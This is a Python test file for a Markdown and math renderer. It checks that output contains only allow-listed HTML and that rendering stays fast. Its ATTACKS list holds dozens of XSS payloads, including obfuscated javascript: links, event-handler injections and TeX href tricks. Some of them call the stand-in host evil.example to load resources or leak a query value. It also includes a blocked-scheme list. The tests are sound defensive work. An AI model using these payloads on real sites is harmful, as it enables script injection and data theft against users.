from __future__ import annotations

import re
import threading
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chapeta.web import links
from chapeta.web.code_blocks import LANGUAGES, code_block
from chapeta.web.formulas import ELEMENTS, to_mathml
from chapeta.web.markdown import css, render

TEXT = frozenset([
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br",
    "sup", "span", "div", "table", "thead", "tbody", "tr", "th", "td",
])  # fmt: skip
# element -> attribute -> what it may be
ATTRIBUTES: dict[str, dict[str, str]] = {
    "a": {
        "href": r"(?:https?://|mailto:)[^\s<>]+", "rel": "noopener noreferrer nofollow", "target": "_blank",
    },
    "img": {"src": r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", "alt": r"(?s:.*)"},
    "button": {"type": "button", "class": "copy|picture", "data-src": r"https?://[^\s<>]+", "data-alt": r"(?s:.*)"},
    "ol": {"start": r"\d+"}, "li": {"class": "task"}, "th": {"class": "right|center"}, "td": {"class": "right|center"},
    "sup": {"class": "note"}, "pre": {"tabindex": "0", "role": "region", "aria-label": "Code"},
    "code": {"class": "formula"},
    "div": {"class": "wide|code|code-head", "tabindex": "0", "role": "region", "aria-label": "Table|Formula"},
    "span": {
        "class": "keyword|string|comment|number|name|known|mark|more|less|box|picture", "role": "img",
        "aria-label": "Done|To do",
    },
}  # fmt: skip
SCHEMES = (
    "javascript",
    "data",
    "vbscript",
    "file",
    "blob",
    "ftp",
    "ws",
    "about",
    "chrome",
    "intent",
    "jar",
    "view-source",
)


class Allowed(HTMLParser):
    """Fails on whatever is not listed above."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ELEMENTS:
            for name, value in attrs:
                assert not name.startswith("on") and name not in ("href", "src", "id", "xlink:href", "actiontype")
                assert not re.search(r"[(:]//|url|expression|\(|@|\\", value or "", re.I), (tag, name, value)
            return
        allowed = ATTRIBUTES.get(tag, {})
        assert tag in TEXT or allowed, tag
        for name, value in attrs:
            assert name in allowed and re.fullmatch(allowed[name], value or ""), (tag, name, value)
        if tag == "a" and attrs:
            assert dict(attrs).keys() == {"href", "rel", "target"}

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_pi = unknown_decl = handle_comment


def check(html: str) -> None:
    parser = Allowed()
    parser.feed(html)
    parser.close()


ATTACKS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<details open ontoggle=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<a href="javascript:alert(1)">x</a>
<br onload=alert(1)> <br/onclick=1>
<style>@import 'https://evil.example/x.css';</style>
<link rel=prefetch href=https://evil.example>
<meta http-equiv=refresh content=0;url=https://evil.example>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\tscript:alert(1))
[x](<java\nscript:alert(1)>)
[x](<javascript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61)
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](\\x01javascript:alert(1))
[x](\u0001javascript:alert(1))
[x](\u00a0javascript:alert(1))
[x](%6Aavascript:alert(1))
[x](\uff4aavascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](data:image/png;base64,AAAA)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](//evil.example)
[x](\\\\evil.example)
[x](/\\evil.example)
[x](/settings)
[x](https://user:secret@evil.example/)
[x](https://good.example\\@evil.example/)
[x](https://evil.example "title" onmouseover=alert(1))
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/'onmouseover='alert(1))
[x]: javascript:alert(1)
[x]
<javascript:alert(1)>
<data:text/html,x>
<vbscript:x>
<https://a.example/"><script>>
![x](javascript:alert(1))
![x](https://evil.example/?q=secret)
![x" onerror="alert(1)](https://evil.example/a.png)
![x](https://evil.example/a.png" onerror="alert(1))
![x](//evil.example/a.png)
![x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/png;base64,AAAA"onload="alert(1))
![x](data:image/png,AAAA)
![x](data:text/html;base64,AAAA)
![x](data:image/png;base64,iVBORw0KGgo=)
[![x](https://evil.example/a.png)](https://evil.example)
```"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
```
```html" onload="alert(1)
x
```
~~~ `"><img src=x onerror=alert(1)>
~~~
`<script>`
$\\href{javascript:alert(1)}{x}$
$\\url{https://evil.example}$
$\\style{background:url(https://evil.example)}{x}$
$\\text{<script>alert(1)</script>}$
$\\text{</mtext><script>alert(1)</script>}$
$\\class{x}{y} \\cssId{x}{y} \\htmlData{a=b}{x}$
$\\includegraphics{https://evil.example/x.png}$
$\\color{red;background:url(https://evil.example)}x$
$\\textcolor{"onload=alert(1)}{y}$
$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y\\y}\\y$
$$\\unicode{x3c}script\\unicode{x3e}$$
$\\begin{equation}x\\label{"onload=1}\\end{equation} \\eqref{x}$
\\(</math><script>alert(1)</script>\\)
| <script> | `|` |
|---|:-:"onload=1|
| <img src=x onerror=alert(1)> | [x](javascript:1) |
- [x" onload=1] a
[^"><script>]: x [^<b>]
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;
https://evil.example/"onmouseover=alert(1)//
http://javascript:alert(1)
www.evil.example javascript://x.example/%0aalert(1)
<!-- --><script>--> <?php ?> <![CDATA[ <script> ]]>
"""


def test_known_attacks_come_out_as_text() -> None:
    check(render(ATTACKS))
    for attack in ATTACKS.split("\n"):
        html = render(attack)
        check(html)
        assert "<script" not in html and "evil.example/x.css'" not in re.findall(r'(?:src|href)="([^"]*)"', html)


@pytest.mark.parametrize("scheme", SCHEMES)
def test_only_three_schemes_are_links(scheme: str) -> None:
    for spelled in (
        scheme,
        scheme.upper(),
        scheme[0] + "\t" + scheme[1:],
        f" {scheme}",
        f"&#{ord(scheme[0])};{scheme[1:]}",
    ):
        for text in (
            f"[x]({spelled}:a)",
            f"[x](<{spelled}:a>)",
            f"<{spelled}:a>",
            f"![x]({spelled}:a)",
            f"[x]\n\n[x]: {spelled}:a",
        ):
            html = render(text)
            assert "href" not in html and "src=" not in html, (text, html)


@pytest.mark.parametrize(
    "address", ["https://a.example", "http://a.example:8080/x?y=1#z", "mailto:a@b.example", "http://[::1]:80/"]
)
def test_links_open_elsewhere_and_tell_nothing(address: str) -> None:
    assert f'<a href="{address}" rel="noopener noreferrer nofollow" target="_blank">x</a>' in render(f"[x]({address})")


FRAGMENTS = st.sampled_from([
    "[", "]", "(", ")", "![", "](", "<", ">", "`", "```", "~~~", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\", "*", "**",
    "_", "~~", "|", "|-|", "\n", "\n\n", "    ", "- ", "- [ ] ", "1. ", "> ", "# ", '"', "'", "=", ":", "/", "//", "&", ";",
    "&#", "&colon;", "javascript:", "data:", "data:image/png;base64,", "https://", "http:", "mailto:", "evil.example", "@",
    "onerror=", "<img src=x ", "<script>", "</script>", "<br>", "<!--", "-->", "<a href=", "\\href{", "\\text{", "{", "}",
    "\\frac", "\\color{", "url(", "[^", "x", "1", " ", "\t", "\0", "\r", "\u00a0", "\u202e", "\ufeff", "\ud7ff", "é",
    "style=", "%0a", "\x0b",
])  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_nothing_but_what_is_listed_comes_out(text: str) -> None:
    check(render(text))


@settings(max_examples=100, deadline=None)
@given(
    st.text(max_size=200),
    st.sampled_from(["{}", "[x]({})", "![x]({})", "<{}>", "${}$", "```{}\n{}", "[x]: {}\n\n[x]", "|{}|\n|-|\n"]),
)
def test_any_characters_in_any_place(text: str, place: str) -> None:
    check(render(place.replace("{}", text)))


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="{}\\frac sqrtexl()[]^_&x1<>\"'#%$\n", max_size=120), st.booleans())
def test_formulas_are_mathml_or_source(source: str, display: bool) -> None:
    check(to_mathml(source, display))


@pytest.mark.parametrize(
    "source",
    [
        "{" * 5_000, r"\frac{" * 900, r"\sqrt" * 1_300, r"\left(" * 1_000, r"\hat" * 499 + "x", "x" * 20_000,
        "{" * 50 + r"\frac1" * 499, r"\sqrt[3]" * 500 + "x",
    ],
)  # fmt: skip
def test_a_formula_that_nests_does_not_end_the_process(source: str) -> None:
    found: list[str] = []
    before = threading.stack_size(1 << 20)  # the smallest stack that a thread of Python's gets anywhere
    try:
        thread = threading.Thread(target=lambda: found.append(to_mathml(source, False)))
        thread.start()
        thread.join()
    finally:
        threading.stack_size(before)
    assert len(found) == 1


def test_what_is_known_is_drawn() -> None:
    html = render(
        "# T\n\n~~no~~ $x^2$ \\(y\\) a<br>b https://a.example/?q=1. costs $5 and $10 [^1]\n\n- [x] done\n- [ ] not\n\n"
        "| a | b |\n|--:|:-:|\n| 1 | $z$ |\n\n$$\na\n= b\n$$\n\n\\[ c \\]\n\n[^1]: the note"
    )
    for part in (
        "<h1>T</h1>", "<s>no</s>", "<msup><mi>x</mi><mn>2</mn></msup>", "<math><mi>y</mi></math>", "a<br>",
        '<a href="https://a.example/?q=1"', "costs $5 and $10", '<sup class="note">1</sup>',
        'aria-label="Done">☑</span> done', 'aria-label="To do">☐</span> not', '<th class="right">a</th>',
        '<td class="center"><math>', '<math display="block"><mi>a</mi><mo>=</mo><mi>b</mi></math>',
        '<math display="block"><mi>c</mi></math>', "the note",
    ):  # fmt: skip
        assert part in html, part
    assert r'<code class="formula">\ce{H2O}</code>' in render(r"$\ce{H2O}$")
    assert "(1)" in render(r"$$a = b \tag{1}$$") and "formula" not in render(r"$$a = b \tag{1}$$").replace(
        "Formula", ""
    )


def test_code_is_coloured_and_complete() -> None:
    html = render('```python title="x"\ndef f(): return "<b>"  # no\n\n\n```')
    assert "<span>python</span>" in html and '<span class="keyword">def</span>' in html
    inside = re.search(r"<code>(.*)</code>", html, re.S)
    assert inside and re.sub(r"<[^>]*>", "", inside[1]) == "def f(): return &quot;&lt;b&gt;&quot;  # no\n\n\n"
    assert "<span class" not in render("```unheardof\nx = 1\n```") and "<span></span>" in render("```\nx\n```")


def test_remote_pictures_wait_and_name_their_host() -> None:
    html = render("![a *cat*](https://pics.example/cat.png?q=secret)")
    assert "<img" not in html and ' src="' not in html
    assert (
        'data-src="https://pics.example/cat.png?q=secret"' in html and "Load picture from pics.example: a cat" in html
    )
    assert "Load picture from xn--" in render("![x](https://pаypal.example/x.png)")  # a Cyrillic а
    assert "<img" in render("![x](data:image/png;base64,iVBORw0KGgo=)")
    assert "<img" not in render("![x](data:image/png;base64," + "A" * links.MAX_PICTURE + ")")


def test_our_own_texts_may_lead_to_pages() -> None:
    text = "[a](/usage) [b](#token) [c](//evil.example) [d](javascript:x)"
    own = render(text, local_links=True)
    assert '<a href="/usage">a</a>' in own and '<a href="#token">b</a>' in own and own.count("<a") == 2
    assert "<a" not in render(text)


HARD_TO_READ = [
    "[" * 16_000, "![" * 8_000, "[a](" * 4_000, "[a][" * 4_000, "*a_ " * 4_000, "**a " * 4_000, "`" * 16_000, "<" * 16_000,
    "http://" * 2_000, "https://a.b/[ " * 1_200, "a@b." * 4_000, "$" * 16_000, "$a " * 5_000, "\\(" * 8_000,
    "\\[a\n" * 4_000, "$$\n" * 5_000, "&" * 16_000, "> " * 8_000, "- " * 8_000, "[^a" * 5_000, "<br" * 5_000,
    "|" * 4_000 + "\n" + "|-" * 4_000, "\\" * 16_000, "".join("`" * n + " " for n in range(170)), "[a]: <" * 2_500,
    "1. " * 5_000, "[](" * 5_000, "~~a" * 5_000, "* * " * 4_000 + "a",
]  # fmt: skip


def test_no_text_takes_long() -> None:
    """Blocks are 16,000 characters at most; the slowest known takes 0.4 s."""
    for text in HARD_TO_READ:
        begun = time.thread_time()
        html = render(text)
        assert time.thread_time() - begun < 3, text[:20]
        if len(html) < 50_000:
            check(html)


def test_no_code_takes_long() -> None:
    for language in sorted(set(LANGUAGES.values())):
        begun = time.thread_time()
        for piece in ('"', "/*", "{", "a b ", "\\"):
            code_block((piece * 400)[:390] + "\n" + (piece + "\n") * 200, language)
        assert time.thread_time() - begun < 3, language


def test_both_schemes_have_colours() -> None:
    page, inner = css()
    assert page.count("--code-keyword") == 2 and ".body--dark .answer{" in page
    assert "var(--code-keyword)" in inner and "url(" not in page + inner and "@import" not in inner


def test_a_table_is_not_filled_up_without_bound() -> None:
    rows = "|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "|\n" * 250
    assert render(rows).count("<td") <= 2500
